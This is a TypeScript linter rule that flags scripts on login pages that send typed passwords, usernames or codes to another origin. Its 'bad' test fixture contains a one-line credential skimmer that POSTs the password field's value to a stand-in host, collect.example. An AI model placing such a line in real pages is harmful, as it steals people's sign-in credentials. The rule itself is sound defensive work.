import { isMail } from '../../core/catalogue/catalogue.ts'
import { isScriptType } from '../../core/template/script-facts.ts'
import type { MarkupToken } from '../../core/template/template.ts'
import { insideOf, placeOn } from '../elements.ts'
import { examplePage, PAGE } from '../example.ts'
import type { LintedFile } from '../file.ts'
import { asksForSecret, given } from '../forms.ts'
import { isComponent, isPagePart } from '../kinds.ts'
import type { LintedPage } from '../page.ts'
import type { Rule } from '../rule.ts'
import { type ScriptRequest, scriptRequests } from '../script-requests.ts'
import type { LintedTheme } from '../theme.ts'

const page = (script: string) =>
  examplePage(`<form method="post" action="@IDAAS_LOGIN_URL@">
<label>$LOGIN_PASSWORD$ <input type="password" name="password" id="password" autocomplete="current-password"></label>
</form>
<script>
const field = document.getElementById('password')
${script}
</script>`)

export const formExternalRequest: Rule = {
  id: 'form/external-request',
  severity: 'error',
  title: 'A script that sends what people type to another site',
  reason: `On a page that asks for a username, a password or a code, a script reads what people type and sends something
to another origin. The owner of that origin can then sign in as these people. Send nothing, or send it to the service.
An administrator can allow the origin for scripts. A comment does not suppress this rule. The linter does not find
scripts that hide what they do.`,
  firm: true,
  bad: { [PAGE]: page(`fetch('https://collect.example/seen', { method: 'POST', body: field.value })`) },
  good: {
    [PAGE]: page(
      `field.addEventListener('input', () => field.classList.toggle('empty', field.value === ''))`,
    ),
  },
  page(page, tell, theme) {
    if (isMail(page.entry) || page.made === undefined) return
    const told = new Set(theme.allowed.scriptOrigins)
    let asks: boolean | undefined
    for (const [index, token] of page.markup.entries()) {
      if (token.kind !== 'startTag') continue
      for (const { origin } of codesOf(page, token, index).flatMap(scriptRequests)) {
        if (told.has(origin)) continue
        asks ??= asksForSecret(page)
        if (!asks) return
        told.add(origin)
        tell({ ...placeOn(page, token), message: sentTo(origin) })
      }
    }
  },
  theme(theme, tell) {
    for (const file of theme.own.values()) {
      if (!/\.m?js$/i.test(file.path) || theme.isMasters(file)) continue
      const requests = requestsOf(file).filter(({ origin }) => !theme.allowed.scriptOrigins.includes(origin))
      if (requests.length === 0 || !isLoaded(theme, file)) continue
      for (const { origin, start, end } of requests)
        tell({ file: file.path, start, end, message: sentTo(origin) })
    }
  },
}

function sentTo(origin: string): string {
  return `A script sends what people type on this page to ${origin}. Remove it.`
}

const known = new WeakMap<LintedFile, readonly ScriptRequest[]>()

/** The requests of a script file, which many pages load. */
function requestsOf(file: LintedFile): readonly ScriptRequest[] {
  const found = known.get(file) ?? scriptRequests(file.text)
  known.set(file, found)
  return found
}

/** The event handlers of a tag, and the text of an inline script. */
function codesOf(page: LintedPage, token: MarkupToken, index: number): string[] {
  const handlers = token.attributes
    .filter(({ name, value }) => name.startsWith('on') && value.includes('//'))
    .map(({ value }) => page.written(value))
  const type = given(page, token, 'type')
  // A macro may be empty, and the element a script.
  if (token.name !== 'script' || !(isScriptType(type) || type.includes('@'))) return handlers
  const { start, end } = insideOf(page.markup, index)
  return [...handlers, page.slice(start, end)]
}

/** What a template has that asks for a username, a password or a code. */
const ASKS = /type\s?=\s?["']?password|name\s?=\s?["']?(?:username|otp)|@REGISTRATION_FORM@/i

/** Whether a page that asks for something secret names a script file. A header or footer stands on all pages. */
function isLoaded({ own, master }: LintedTheme, { path }: LintedFile): boolean {
  const name = path.slice(path.lastIndexOf('/') + 1)
  const templates = [...own.values(), ...[...master.values()].filter(one => !own.has(one.path))]
  return templates.some(
    one => isPagePart(one.path) && one.text.includes(name) && (isComponent(one.path) || ASKS.test(one.text)),
  )
}
